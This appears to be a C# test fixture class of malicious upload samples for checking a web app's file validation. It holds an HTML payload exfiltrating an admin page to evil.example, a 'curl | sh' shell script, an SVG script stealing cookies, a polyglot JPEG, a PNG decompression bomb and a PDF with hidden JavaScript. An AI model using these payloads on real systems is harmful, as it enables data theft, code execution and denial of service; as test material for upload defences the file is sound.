using System.Buffers.Binary;
using System.IO.Compression;
using System.Text;
using SkiaSharp;

namespace Learning.Web.Tests.Security;

/// <summary>Files an attacker or a careless user might upload: right name, wrong content.</summary>
public static class UploadSamples
{
    public static readonly byte[] Html = "<!DOCTYPE html><html><body><script>fetch('/admin').then(r => r.text()).then(t => location = 'https://evil.example/?' + t)</script></body></html>"u8.ToArray();

    public static readonly byte[] ShellScript = "#!/bin/sh\ncurl https://evil.example/x | sh\n"u8.ToArray();

    public static readonly byte[] SvgWithScript = "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" width=\"40\" height=\"30\"><script>alert(document.cookie)</script><rect width=\"40\" height=\"30\"/></svg>"u8.ToArray();

    /// <summary>Bytes of every value, as a binary file renamed .csv has.</summary>
    public static byte[] Junk(int length, int seed = 7)
    {
        var bytes = new byte[length];
        new Random(seed).NextBytes(bytes);
        return bytes;
    }

    public static byte[] Jpeg(int width = 40, int height = 30)
    {
        using var bitmap = new SKBitmap(width, height);
        bitmap.Erase(SKColors.SeaGreen);
        using var image = SKImage.FromBitmap(bitmap);
        return image.Encode(SKEncodedImageFormat.Jpeg, 90).ToArray();
    }

    /// <summary>A JPEG whose EXIF block holds the GPS position where it was taken (1°17' N).</summary>
    public static byte[] JpegWithGps()
    {
        var tiff = new List<byte>("MM\0*"u8.ToArray());
        tiff.AddRange(BigEndian(8));
        tiff.AddRange([0, 1]);
        tiff.AddRange(Entry(0x8825, 4, 1, 26)); // GPS IFD at offset 26
        tiff.AddRange(BigEndian(0));
        tiff.AddRange([0, 2]);
        tiff.AddRange(Entry(0x0001, 2, 2, 0x4E000000)); // "N"
        tiff.AddRange(Entry(0x0002, 5, 3, 56));
        tiff.AddRange(BigEndian(0));
        foreach (var (numerator, denominator) in new[] { (1, 1), (17, 1), (0, 1) })
        {
            tiff.AddRange(BigEndian(numerator));
            tiff.AddRange(BigEndian(denominator));
        }
        var app1 = new List<byte> { 0xFF, 0xE1 };
        var body = "Exif\0\0"u8.ToArray().Concat(tiff).ToArray();
        app1.AddRange([(byte)((body.Length + 2) >> 8), (byte)((body.Length + 2) & 0xFF)]);
        app1.AddRange(body);
        var jpeg = Jpeg();
        return [.. jpeg[..2], .. app1, .. jpeg[2..]];
    }

    /// <summary>A picture that is also a web page: a valid JPEG with markup after its end.</summary>
    public static byte[] PolyglotJpeg() => [.. Jpeg(), .. Html];

    /// <summary>A PNG of a few hundred bytes whose header claims 50000 × 50000 pixels (10 GB once decoded).</summary>
    public static byte[] PngBomb()
    {
        var header = new byte[13];
        BinaryPrimitives.WriteInt32BigEndian(header, 50_000);
        BinaryPrimitives.WriteInt32BigEndian(header.AsSpan(4), 50_000);
        header[8] = 8;
        header[9] = 2;
        using var compressed = new MemoryStream();
        using (var zlib = new ZLibStream(compressed, CompressionLevel.SmallestSize, leaveOpen: true))
        {
            zlib.Write(new byte[64 * 1024]);
        }
        return [.. new byte[] { 0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A }, .. Chunk("IHDR", header), .. Chunk("IDAT", compressed.ToArray()), .. Chunk("IEND", [])];
    }

    public static byte[] Pdf(string body) => Encoding.Latin1.GetBytes($"%PDF-1.7\n1 0 obj\n{body}\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n");

    /// <summary>A PDF whose object stream hides the action in Flate-compressed bytes.</summary>
    public static byte[] PdfWithCompressedJavaScript()
    {
        using var compressed = new MemoryStream();
        using (var zlib = new ZLibStream(compressed, CompressionLevel.Optimal, leaveOpen: true))
        {
            zlib.Write("<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>"u8);
        }
        var head = Encoding.Latin1.GetBytes("%PDF-1.7\n1 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length " + compressed.Length + " >>\nstream\n");
        return [.. head, .. compressed.ToArray(), .. "\nendstream\nendobj\n%%EOF\n"u8.ToArray()];
    }

    private static byte[] Chunk(string type, byte[] data)
    {
        var typed = Encoding.ASCII.GetBytes(type).Concat(data).ToArray();
        return [.. BigEndian(data.Length), .. typed, .. BigEndian((int)Crc32(typed))];
    }

    private static uint Crc32(byte[] bytes)
    {
        var crc = 0xFFFFFFFFu;
        foreach (var b in bytes)
        {
            crc ^= b;
            for (var k = 0; k < 8; k++)
            {
                crc = (crc & 1) != 0 ? (crc >> 1) ^ 0xEDB88320u : crc >> 1;
            }
        }
        return ~crc;
    }

    private static byte[] Entry(ushort tag, ushort type, int count, int value) =>
        [(byte)(tag >> 8), (byte)tag, (byte)(type >> 8), (byte)type, .. BigEndian(count), .. BigEndian(value)];

    private static byte[] BigEndian(int value)
    {
        var bytes = new byte[4];
        BinaryPrimitives.WriteInt32BigEndian(bytes, value);
        return bytes;
    }
}
